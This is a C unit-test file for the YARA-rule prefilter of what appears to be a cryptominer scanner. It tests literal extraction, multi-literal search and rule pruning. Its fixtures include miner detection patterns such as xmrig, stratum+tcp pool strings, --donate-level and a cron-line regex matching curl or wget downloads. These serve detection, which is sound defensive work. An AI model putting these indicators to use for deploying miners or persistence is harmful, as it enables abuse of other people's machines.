    expect_hits(whole[0].text, want, sizeof(want) / sizeof(want[0]));
    free(whole[0].text);
    free(absent[0].text);
    free(path[0]);
    free(rules);
}

/* ---- the prefilter: literals, their search, what their absence proves ---- */

/* the sets as text: {a,b} {c} */
static void sets_text(const ms_litsets *o, char *out, size_t cap) {
    out[0] = '\0';
    for (size_t k = 0; k < o->n; k++) {
        strncat(out, k ? " {" : "{", cap - strlen(out) - 1);
        for (size_t j = 0; j < o->set[k].n; j++) {
            if (j)
                strncat(out, ",", cap - strlen(out) - 1);
            size_t at = strlen(out);
            for (size_t b = 0; b < o->set[k].v[j].n && at + 4 < cap; b++) {
                uint8_t c = o->set[k].v[j].b[b];
                at += (size_t)snprintf(out + at, cap - at, c >= 0x20 && c < 0x7f ? "%c" : "\\x%02x", c);
            }
        }
        strncat(out, "}", cap - strlen(out) - 1);
    }
}

Test(ruleprune, literals_every_match_holds) {
    static const struct {
        char kind; /* t text, r regex, h hex */
        const char *body, *want; /* want NULL: no literals */
    } cases[] = {
        {'t', "xmr\\x41ig\\n", "{xmrAig\\x0a}"},
        {'t', "ab", NULL},                     /* shorter than MS_LIT_MIN */
        {'t', "bad\\q", NULL},                 /* an escape libyara has not */
        {'r', "--donate-level[ =]?[0-9]", "{--donate-level}"},
        {'r', "-o +[a-z.-]{4,80}:(3333|4444)\\b", "{:3333,:4444} {-o }"},
        {'r', "\\*\\/[0-9]{1,2}( \\*){4} [^\\n]{0,120}(curl|wget)", "{ * * * * } {curl,wget}"},
        {'r', "\\n[ \\t]{0,8}(sudo )?(pkill|killall) ", "{pkill ,killall }"},
        {'r', "(xm|XM)(rig|RIG)", "{xmrig,xmRIG,XMrig,XMRIG}"},
        {'r', "ab+c{2,3}de", "{bcc} {cde}"},   /* each repeat ends a run */
        {'r', "foo(bar)?baz", "{foo} {baz}"}, /* an optional group is skipped */
        {'r', "x(abc|de)*y", NULL},           /* nothing of 3 bytes must occur */
        {'r', "a|bcd", NULL},                 /* a branch without literals */
        {'r', "(?:abc)", NULL},               /* syntax this reader does not follow */
        {'r', "abc\\d{2}", "{abc}"},
        {'r', "\\x41\\x42\\x43.\\.\\/q", "{ABC} {./q}"},
        {'h', "4D 5A ?? 90 00 03 ( 00 | 01 ) 00", "{\\x90\\x00\\x03\\x00\\x00,\\x90\\x00\\x03\\x01\\x00}"},
        {'h', "4D 5A [2-4] 90 ~00 61", NULL},
        {'h', "6d 69 6e 65 72 ( 2e | 5f ) 63 66 67", "{miner.cfg,miner_cfg}"},
        {'h', "4D 5A // a comment", NULL},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        ms_litsets o;
        const char *b = cases[i].body;
        size_t n = strlen(b);
        bool got = cases[i].kind == 't' ? ms_lits_text(b, n, &o)
                   : cases[i].kind == 'r' ? ms_lits_regex(b, n, &o) : ms_lits_hex(b, n, &o);
        char text[512];
        sets_text(&o, text, sizeof(text));
        if (!cases[i].want) {
            cr_expect_not(got, "%s: no literals, read %s", b, text);
            cr_expect_eq(o.n, 0);
        } else {
            cr_expect(got, "%s: literals", b);
            cr_expect_str_eq(text, cases[i].want, "%s: %s, want %s", b, text, cases[i].want);
        }
    }
}

Test(ruleprune, litscan_finds_each_literal_anywhere) {
    ms_litscan *m = ms_litscan_new();
    cr_assert(ms_litscan_add(m, (const uint8_t *)"stratum", 7, false, 0));
    cr_assert(ms_litscan_add(m, (const uint8_t *)"XmRiG", 5, true, 1));
    cr_assert(ms_litscan_add(m, (const uint8_t *)"p\0o\0o\0l\0", 8, false, 2));
    cr_assert(ms_litscan_add(m, (const uint8_t *)"donate", 6, false, 1)); /* a second literal of id 1 */
    cr_assert_not(ms_litscan_add(m, (const uint8_t *)"ab", 2, false, 3), "shorter than MS_LITSCAN_MIN");
    ms_litscan_seal(m);
    cr_assert_not(ms_litscan_add(m, (const uint8_t *)"late", 4, false, 3), "sealed");
    cr_assert_eq(ms_litscan_count(m), 4);
    static const struct {
        const char *data;
        size_t n;
        const char *want; /* seen[0..2] as 0/1 */
    } cases[] = {
        {"stratum", 7, "100"},                 /* the whole buffer */
        {"xx stratu", 9, "000"},               /* cut at the end */
        {"XMRIG", 5, "010"},                   /* nocase */
        {"xmRig and stratum", 17, "110"},
        {"StRaTuM", 7, "000"},                 /* case kept */
        {"a p\0o\0o\0l\0", 10, "001"},         /* wide */
        {"donat", 5, "000"},
        {"..donate", 8, "010"},
        {"", 0, "000"},
        {"xm", 2, "000"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        /* exactly the bytes: a read past them is ASan's */
        uint8_t *d = malloc(cases[i].n ? cases[i].n : 1);
        memcpy(d, cases[i].data, cases[i].n);
        uint8_t seen[3] = {0};
        size_t got = ms_litscan_find(m, d, cases[i].n, seen);
        char text[4] = {(char)('0' + seen[0]), (char)('0' + seen[1]), (char)('0' + seen[2]), 0};
        cr_expect_str_eq(text, cases[i].want, "case %zu: %s", i, text);
        cr_expect_eq(got, (size_t)(seen[0] + seen[1] + seen[2]), "case %zu", i);
        free(d);
    }
    /* a long buffer: literals at both ends and across the four-byte steps */
    size_t big = 100003;
    uint8_t *d = malloc(big);
    memset(d, 'q', big);
    memcpy(d + big - 7, "stratum", 7);
    for (size_t k = 0; k < 4; k++) {
        uint8_t seen[3] = {0};
        memset(d, 'q', 64);
        memcpy(d + 1 + k * 5, "XMRig", 5);
        ms_litscan_find(m, d, big, seen);
        cr_expect(seen[0] && seen[1] && !seen[2], "offset %zu: %d%d%d", 1 + k * 5, seen[0], seen[1], seen[2]);
    }
    free(d);
    ms_litscan_free(m);

    /* each literal at every offset of buffers of every length across the
     * search's eight-byte steps (the pairs it reads are at even offsets:
     * an anchor at an odd one, at the very end, in the tail), and not
     * found when its last byte is cut off */
    static const char *const each[] = {"cat", "rx/0", "Mine", "stratum+tcp"};
    enum { EACH = sizeof(each) / sizeof(each[0]) };
    m = ms_litscan_new();
    for (uint32_t k = 0; k < EACH; k++)
        cr_assert(ms_litscan_add(m, (const uint8_t *)each[k], strlen(each[k]), k == 2, k));
    ms_litscan_seal(m);
    for (size_t k = 0; k < EACH; k++) {
        size_t len = strlen(each[k]);
        for (size_t n = len; n < len + 20; n++)
            for (size_t at = 0; at + len <= n; at++)
                for (int cut = 0; cut < 2; cut++) {
                    size_t size = cut ? at + len - 1 : n;
                    uint8_t *b = malloc(size ? size : 1);
                    memset(b, '.', size);
                    memcpy(b + at, each[k], cut ? len - 1 : len);
                    if (k == 2)
                        b[at] = 'm'; /* nocase */
                    uint8_t seen[EACH] = {0};
                    ms_litscan_find(m, b, size, seen);
                    cr_assert_eq(seen[k], !cut, "%s at %zu of %zu bytes%s", each[k], at, size, cut ? ", cut" : "");
                    free(b);
                }
    }
    ms_litscan_free(m);
}

/* A third-party-sized set (5 000 literals: the index has more buckets
 * than for a few hundred): each is found where it is planted, and the
 * ids marked are those of the literals the buffer holds, no more. */
Test(ruleprune, litscan_finds_each_of_many_literals) {
    enum { NL = 5000, MAXLEN = 20, BUF = 64 };
    static uint8_t lits[NL][MAXLEN];
    static size_t lens[NL];
    static bool nocase[NL];
    uint32_t x = 12345;
    ms_litscan *m = ms_litscan_new();
    for (size_t k = 0; k < NL; k++) {
        x = x * 1103515245u + 12345u;
        lens[k] = 3 + (x >> 16) % (MAXLEN - 2);
        nocase[k] = (x >> 8) % 5 == 0;
        for (size_t j = 0; j < lens[k]; j++) {
            x = x * 1103515245u + 12345u;
            lits[k][j] = (uint8_t)('a' + (x >> 16) % 26); /* never the filler */
        }
        cr_assert(ms_litscan_add(m, lits[k], lens[k], nocase[k], (uint32_t)k));
    }
    ms_litscan_seal(m);
    static uint8_t seen[NL];
    for (size_t k = 0; k < NL; k++) {
        uint8_t b[BUF];
        memset(b, '.', sizeof(b));
        size_t at = k % (BUF - MAXLEN);
        memcpy(b + at, lits[k], lens[k]);
        if (nocase[k])
            b[at] = (uint8_t)(b[at] - 'a' + 'A');
        memset(seen, 0, sizeof(seen));
        size_t got = ms_litscan_find(m, b, sizeof(b), seen);
        cr_assert(seen[k], "literal %zu (%zu bytes) at %zu", k, lens[k], at);
        size_t marked = 0;
        for (size_t j = 0; j < NL; j++) {
            if (!seen[j] && k % 16)
                continue; /* every 16th buffer: every literal looked for by hand */
            bool holds = false;
            for (size_t p = 0; p + lens[j] <= sizeof(b) && !holds; p++) {
                size_t q = 0;
                while (q < lens[j] && (nocase[j] ? ms_lower(b[p + q]) == ms_lower(lits[j][q]) : b[p + q] == lits[j][q]))
                    q++;
                holds = q == lens[j];
            }
            cr_assert_eq(seen[j], holds, "buffer %zu: literal %zu marked %d, held %d", k, j, seen[j], holds);
            marked += seen[j];
        }
        if (k % 16 == 0)
            cr_assert_eq(got, marked, "buffer %zu", k);
    }
    ms_litscan_free(m);
}

/* Each rule's name says what it is for an ELF in which none of the
 * literals occurs: off_* false, keep_* may match. */
static const char clean_text[] =
    "rule off_text { strings: $a = \"stratum+tcp\" condition: $a }\n"
    "rule off_fullword { strings: $a = \"pool\" fullword condition: $a }\n"
    "rule off_at { strings: $a = \"xmrig\" condition: $a at 0 }\n"
    "rule off_count { strings: $a = \"randomx\" condition: #a >= 3 }\n"
    "rule keep_count_zero { strings: $a = \"randomx\" condition: #a == 0 }\n"
    "rule keep_xor { strings: $a = \"secret\" xor condition: $a }\n"
    "rule off_two_of { strings: $a = \"alpha\" $b = \"beta2\" xor $c = \"gamma\" condition: 2 of them }\n"
    "rule keep_one_of { strings: $a = \"alpha\" $b = \"beta2\" xor condition: 1 of them }\n"
    "rule keep_short { strings: $a = \"ab\" condition: $a }\n"
    "rule off_regex { strings: $a = /--algo[ =](rx\\/0|cn)/ condition: $a }\n"
    "rule off_regex_tail { strings: $a = /[a-z]{8}\\.onion/ condition: $a }\n"
    "rule keep_regex { strings: $a = /[a-z]{8}\\.[a-z]{2}/ condition: $a }\n"
    "private rule off_private { strings: $a = \"hidden1\" condition: $a in (0..100) }\n"
    "rule off_ref { condition: off_private and filesize > 10 }\n"
    "rule off_rule_set { condition: 2 of (off_text, off_ref, keep_xor) }\n"
    "rule keep_rule_set { condition: any of (off_text, keep_xor) }\n"
    "rule off_pe { condition: uint16(0) == 0x5a4d }\n"
    "rule keep_no_strings { condition: filesize > 10 }\n";

Test(ruleprune, decides_what_missing_literals_prove) {
    ms_prune *p = ms_prune_new();
    cr_assert(ms_prune_add(p, clean_text, strlen(clean_text), "t"));
    size_t n = ms_prune_rules(p);
    cr_assert_eq(n, 18);
    uint8_t off[18];
    size_t cut = ms_prune_decide_clean(p, MS_HEAD_ELF, 0, off);
    size_t want = 0;
    const char *line = clean_text;
    for (size_t i = 0; i < n; i++) {
        const char *name = strstr(line, "rule ") + 5;
        bool is_off = !strncmp(name, "off_", 4);
        want += is_off;
        cr_expect_eq(off[i], is_off, "rule %zu: %.20s", i, name);
        line = strchr(line, '\n') + 1;
    }
    cr_assert_eq(cut, want);
    /* with keep_no_strings and keep_xor in it, the set is never quiet */
    ms_prune_class *c = ms_prune_class_new(p, MS_HEAD_ELF, 0);
    uint8_t seen[64] = {0};
    cr_assert_lt(ms_prune_lit_sets(p), sizeof(seen));
    cr_assert_not(ms_prune_class_quiet(c, seen));
    ms_prune_class_free(c);
    ms_prune_free(p);

    /* a set of off_* rules only is quiet without its literals, and not
     * once the literals of one of its strings occur */
    static const char quiet_text[] =
        "rule a { strings: $a = /--algo[ =](rx\\/0|cn\\/r)/ $b = \"zzzz\" condition: $a and #b >= 2 }\n"
        "private rule p1 { strings: $a = \"hidden1\" condition: $a }\n"
        "rule b { condition: p1 and filesize > 10 }\n";
    p = ms_prune_new();
    cr_assert(ms_prune_add(p, quiet_text, strlen(quiet_text), "t"));
    cr_assert_eq(ms_prune_lit_sets(p), 4, "--algo, {rx/0, cn/r}, zzzz, hidden1");
    c = ms_prune_class_new(p, MS_HEAD_OTHER, 0);
    uint8_t s4[4] = {0};
    cr_assert(ms_prune_class_quiet(c, s4));
    s4[0] = 1; /* "--algo" alone: $a needs a literal of {rx/0, cn/r} too */
    cr_assert(ms_prune_class_quiet(c, s4));
    s4[1] = 1;
    cr_assert(ms_prune_class_quiet(c, s4), "$a may match, #b >= 2 may not");
    s4[2] = 1;
    cr_assert_not(ms_prune_class_quiet(c, s4));
    memset(s4, 0, sizeof(s4));
    s4[3] = 1; /* the private rule may be true, and b with it */
    cr_assert_not(ms_prune_class_quiet(c, s4));
    ms_prune_class_free(c);
    ms_prune_free(p);
}

/* User rules whose literals the fixtures hold in part or whole. */
static const char prefilter_rules[] =
    "rule u_twice { strings: $a = \"randomx-v2\" condition: #a >= 2 }\n"
    "rule u_nocase { strings: $a = \"StRaTuM+TcP\" nocase condition: $a }\n"
    "rule u_wide { strings: $a = \"xmrig.json\" wide condition: $a }\n"
    "rule u_regex { strings: $a = /--algo[ =](rx\\/0|cn\\/r)/ condition: $a }\n"
    "rule u_hex { strings: $a = { 6d 69 6e 65 72 ( 2e | 5f ) 63 66 67 } condition: $a }\n"
    "rule u_two_of { strings: $a = \"alpha-one\" $b = \"beta-two\" $c = \"gamma-three\" condition: 2 of them }\n"
    "private rule u_priv { strings: $a = \"deltafour\" condition: $a }\n"
    "rule u_ref { condition: u_priv and filesize > 100 }\n";

Test(ruleprune, prefilter_gives_the_hits_of_the_whole_set) {
    char *rules = t_write_str(t_tmp, "pre.yar", prefilter_rules);
    static const char wide[] = "x\0m\0r\0i\0g\0.\0j\0s\0o\0n\0";
    static const struct {
        const char *name, *body;
        size_t len;
        const char *hit; /* the user rule it hits, or NULL */
    } cases[] = {
        {"plain", "", 0, NULL},
        {"once", "randomx-v2", 10, NULL},
        {"twice", "randomx-v2 randomx-v2", 21, "u_twice"},
        {"nocase", "stratum+TCP", 11, "u_nocase"},
        {"wide", wide, sizeof(wide) - 1, "u_wide"},
        {"regex_near", "--algo=rx/1", 11, NULL},
        {"regex", "--algo rx/0", 11, "u_regex"},
        {"hex", "miner_cfg", 9, "u_hex"},
        {"one_of_two", "alpha-one", 9, NULL},
        {"two_of", "alpha-one beta-two", 18, "u_two_of"},
        {"private", "deltafour", 9, "u_ref"},
    };
    enum { N = sizeof(cases) / sizeof(cases[0]) };
    object obs[N];
    for (size_t i = 0; i < N; i++) {
        obs[i] = make(cases[i].name, "\x7f" "ELF\x02\x01\x01", 7, "", 64 << 10);
        memcpy(obs[i].data + 100, cases[i].body, cases[i].len);
    }
    hits whole[N] = {{{0}}}, pre[N] = {{{0}}};
    size_t sets;
    scan_all(obs, N, "off", rules, whole, &sets);
    cr_assert_eq(last_skips, 0, "off: no prefilter");
    scan_all(obs, N, "", rules, pre, &sets);
    /* the objects where no rule can match: plain, regex_near, one_of_two
     * (once holds the literal of u_twice: libyara counts it) */
    cr_assert_eq(last_skips, 3, "%llu scans spared", (unsigned long long)last_skips);
    for (size_t i = 0; i < N; i++) {
        cr_expect_str_eq(pre[i].names, whole[i].names, "%s: with the prefilter [%s], without [%s]", cases[i].name,
                         pre[i].names, whole[i].names);
        if (cases[i].hit)
            cr_expect_not_null(strstr(whole[i].names, cases[i].hit), "%s: [%s]", cases[i].name, whole[i].names);
        else
            cr_expect_null(strstr(whole[i].names, "u_"), "%s: [%s]", cases[i].name, whole[i].names);
    }
    for (size_t i = 0; i < N; i++)
        free(obs[i].data);
    free(rules);
}

/* The prefilter stops where it does not pay: once a class's first 8
 * objects and 16 MiB searched spared no object, a plain object of the
 * class goes to libyara too; under MINERSCAN_RULE_CUT=always it is still
 * spared. The search of an object ends once the set may report on it, and
 * only the bytes searched count: objects whose literal comes early cost it
 * little, and it goes on. One big loud object alone does not decide for
 * its class (node before the libLLVM libraries in /usr). */
Test(ruleprune, prefilter_stops_where_it_does_not_pay) {
    char *rules = t_write_str(t_tmp, "pre.yar", prefilter_rules);
    enum { MAX = 10 };
    static const struct {
        size_t busy;    /* objects holding a literal, before the plain one */
        size_t size;    /* of every object of the case */
        size_t at;      /* where the busy objects hold their literal */
        uint64_t skips; /* scans spared: the plain one, or none */
    } cases[] = {
        {9, 4 << 20, (4 << 20) - 100, 0}, /* 9 objects, 36 MiB, none spared */
        {9, 4 << 20, 100, 1},             /* their first steps only: 9 x 64 KiB */
        {1, 20 << 20, (20 << 20) - 100, 1}, /* one object, 20 MiB */
    };
    for (size_t c = 0; c < sizeof(cases) / sizeof(cases[0]); c++) {
        size_t n = cases[c].busy + 1;
        object obs[MAX];
        for (size_t i = 0; i < n; i++) {
            obs[i] = make(i + 1 < n ? "busy.elf" : "plain.elf", "\x7f" "ELF\x02\x01\x01", 7, "", cases[c].size);
            if (i + 1 < n)
                memcpy(obs[i].data + cases[c].at, "stratum+tcp://", 14); /* u_nocase may match */
        }
        hits h[MAX] = {{{0}}}, a[MAX] = {{{0}}};
        size_t sets;
        scan_all(obs, n, "", rules, h, &sets);
        cr_assert_eq(last_skips, cases[c].skips, "%zu busy of %zu bytes, literal at %zu: %llu scans spared",
                     cases[c].busy, cases[c].size, cases[c].at, (unsigned long long)last_skips);
        scan_all(obs, n, "always", rules, a, &sets);
        cr_assert_eq(last_skips, 1, "always: the plain one is spared");
        for (size_t i = 0; i < n; i++) {
            cr_expect_str_eq(h[i].names, a[i].names, "%zu", i);
            cr_expect_eq(strstr(h[i].names, "u_nocase") != NULL, i + 1 < n, "%zu: [%s]", i, h[i].names);
        }
        for (size_t i = 0; i < n; i++)
            free(obs[i].data);
    }
    free(rules);
}
